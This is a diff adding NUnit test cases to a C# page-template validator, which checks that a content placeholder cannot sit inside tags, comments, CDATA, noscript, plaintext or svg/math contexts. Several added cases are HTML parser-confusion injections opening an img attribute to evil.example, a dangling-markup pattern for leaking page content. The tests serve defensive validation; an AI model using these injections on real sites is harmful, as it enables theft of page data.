@@ -89,11 +89,38 @@ public sealed class PageTemplatesTests
     [TestCase("<!-- note --><!-- {{ content }} -->", "inside a comment")]
     [TestCase("<title>{{ content }}</title>", "inside a <title> element")]
     [TestCase("<title>Acme</titlex><style></style-x>{{ content }}</title>", "inside a <title> element")]
+    // A browser ends a comment at --!> and at once in <!--> and <!--->, so what follows is a tag of the page.
+    [TestCase("<!--><img src='https://evil.example/c?--> {{ content }}'>", "inside a tag or one of its attributes")]
+    [TestCase("<!---><img src='https://evil.example/c?--> {{ content }}'>", "inside a tag or one of its attributes")]
+    [TestCase("<!-- a --!><img src='https://evil.example/c?--> {{ content }}'>", "inside a tag or one of its attributes")]
+    // A tag's name runs to a space, / or >: <style-x> is no style, and only ASCII letters fold (</tıtle> ends no title).
+    [TestCase("<style-x><img src=\"https://evil.example/c?</style>{{ content }}\">", "inside a tag or one of its attributes")]
+    [TestCase("<title>Acme</t\u0131tle>{{ content }}</title>", "inside a <title> element")]
+    // Inside svg and math a style or title holds markup; a CDATA section, a noscript or a plaintext reads differently.
+    [TestCase("<svg><style><img src=\"https://evil.example/c?</style>{{ content }}\"></svg>", "after a <style> holding markup inside <svg> or <math> (a browser reads it as markup there)")]
+    [TestCase("<math><title><img src=\"https://evil.example/c?</title>{{ content }}\"></math>", "after a <title> holding markup inside <svg> or <math> (a browser reads it as markup there)")]
+    [TestCase("<svg><![CDATA[ > <a b=\" ]]><img src='https://evil.example/c?\">{{ content }}'></svg>", "after a CDATA section (text inside <svg> or <math>, a comment elsewhere)")]
+    [TestCase("<noscript><img src='https://evil.example/c?</noscript>{{ content }}'>", "after a <noscript> element (a browser reads it as text or as markup, as scripts run or not)")]
+    [TestCase("<plaintext></plaintext>{{ content }}", "inside a <plaintext> element")]
+    [TestCase("<svg viewBox=\"0 0 1 1\">{{ content }}</svg>", "inside an <svg> or <math> element")]
+    [TestCase("<math></svg>{{ content }}</math>", "inside an <svg> or <math> element")]
     public void Problem_ContentInsideATagACommentOrAnElementOfText_IsRefusedNamingWhere(string template, string where)
     {
         var problem = PageTemplates.Problem(template, Acme);
 
         Assert.That(problem!.Message, Is.EqualTo($"must show the page's content ({{{{ content }}}}) between elements, not {where}"));
+    }
+
+    [Test]
+    public void Render_OrdinaryLayoutWithAnSvgLogoNavAndFooter_IsUsed()
+    {
+        var render = PageTemplates.Render(
+            "<!DOCTYPE html><!----><header><a href=\"/\"><svg viewBox=\"0 0 10 10\" role=\"img\"><title>Acme</title><path d=\"M0 0h10v10z\"/></svg></a>"
+            + "<nav><a href=\"https://acme.example/help\">Help</a></nav></header>\n<main>{{ content }}</main>"
+            + "<footer><img src=\"https://acme.example/x.png\" alt=\"\"><p>&copy; Acme</p></footer>",
+            Acme, "<form method=\"post\"></form>");
+
+        Assert.That(render, Is.TypeOf<TemplateRender.Rendered>(), render is TemplateRender.Failed failed ? failed.Reason : "");
     }
 
     [Test]
